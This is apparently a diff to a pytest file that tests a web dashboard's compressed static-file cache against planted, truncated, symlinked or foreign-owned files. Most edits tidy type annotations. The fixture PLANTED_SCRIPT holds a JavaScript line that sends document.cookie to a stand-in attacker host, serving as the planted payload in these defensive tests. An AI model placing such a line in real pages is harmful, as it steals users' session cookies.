@@ -20,7 +20,7 @@ ASSET = PROJECT_DIR / "assets" / "lazy" / "plotly-basic-4.1.1.min.js"
 PLANTED_SCRIPT = b"fetch('https://attacker.example/?c=' + document.cookie);" * 20
 
 
-def use_cache_in(monkeypatch: pytest.MonkeyPatch, directory: Path) -> compression.CompressedStatic:
+def use_cache_in(monkeypatch: pytest.MonkeyPatch, directory: Path | None) -> compression.CompressedStatic:
     cache = compression.CompressedStatic(directory)
     monkeypatch.setattr(compression, "STATIC_CACHE", cache)
     return cache
@@ -33,13 +33,13 @@ def plant(directory: Path, body: bytes) -> Path:
     return planted
 
 
-def served_script(client) -> bytes:  # type: ignore[no-untyped-def]
+def served_script(client) -> bytes:
     response = client.get(ASSET_URL, headers={"Accept-Encoding": "br"})
     assert response.status_code == 200 and response.headers["Content-Encoding"] == "br"
     return brotli.decompress(response.data)
 
 
-def test_a_planted_file_in_the_cache_folder_is_not_served(client, monkeypatch, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_a_planted_file_in_the_cache_folder_is_not_served(client, monkeypatch, tmp_path: Path) -> None:
     folder = tmp_path / "cache"
     folder.mkdir(mode=0o700)
     body = ASSET.read_bytes()
@@ -55,7 +55,7 @@ def test_a_planted_file_in_the_cache_folder_is_not_served(client, monkeypatch, t
     assert served_script(client) == body and fresh.items
 
 
-def test_a_truncated_file_is_not_served_either(client, monkeypatch, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_a_truncated_file_is_not_served_either(client, monkeypatch, tmp_path: Path) -> None:
     body = ASSET.read_bytes()
     folder = tmp_path / "cache"
     folder.mkdir(mode=0o700)
@@ -64,7 +64,7 @@ def test_a_truncated_file_is_not_served_either(client, monkeypatch, tmp_path: Pa
     assert served_script(client) == body
 
 
-def test_a_cache_folder_that_is_a_symlink_is_not_used(client, monkeypatch, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_a_cache_folder_that_is_a_symlink_is_not_used(client, monkeypatch, tmp_path: Path) -> None:
     body = ASSET.read_bytes()
     elsewhere = tmp_path / "attackers"
     elsewhere.mkdir(mode=0o700)
@@ -78,7 +78,7 @@ def test_a_cache_folder_that_is_a_symlink_is_not_used(client, monkeypatch, tmp_p
     assert sorted(path.name for path in elsewhere.iterdir()) == [planted.name]
 
 
-def test_a_cache_folder_of_another_user_is_not_used(client, monkeypatch, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_a_cache_folder_of_another_user_is_not_used(client, monkeypatch, tmp_path: Path) -> None:
     if os.getuid() != 0:
         pytest.skip("making a folder another user owns needs root")
     body = ASSET.read_bytes()
@@ -94,9 +94,10 @@ def test_a_cache_folder_of_another_user_is_not_used(client, monkeypatch, tmp_pat
     assert brotli.decompress(planted.read_bytes()) == PLANTED_SCRIPT  # neither read nor replaced
 
 
-def test_the_default_folder_is_made_private_and_a_wider_mode_is_tightened(monkeypatch, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_the_default_folder_is_made_private_and_a_wider_mode_is_tightened(monkeypatch, tmp_path: Path) -> None:
     monkeypatch.delenv("KPI_COMPRESSED_CACHE", raising=False)
-    assert compression.cache_directory().name == f"kpi-dashboard-compressed-{os.getuid()}"
+    default = compression.cache_directory()
+    assert default is not None and default.name == f"kpi-dashboard-compressed-{os.getuid()}"
     made = tmp_path / "new" / "cache"
     assert compression.private_directory(made)
     assert stat.S_IMODE(made.stat().st_mode) == 0o700
@@ -107,9 +108,9 @@ def test_the_default_folder_is_made_private_and_a_wider_mode_is_tightened(monkey
     assert compression.cache_directory() is None  # empty: memory only
 
 
-def test_without_a_folder_the_best_version_is_kept_in_memory(client, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+def test_without_a_folder_the_best_version_is_kept_in_memory(client, monkeypatch) -> None:
     body = ASSET.read_bytes()
-    cache = use_cache_in(monkeypatch, None)  # type: ignore[arg-type]
+    cache = use_cache_in(monkeypatch, None)
     best = cache.prepare_now(body)
     response = client.get(ASSET_URL, headers={"Accept-Encoding": "br"})
     assert response.data == best
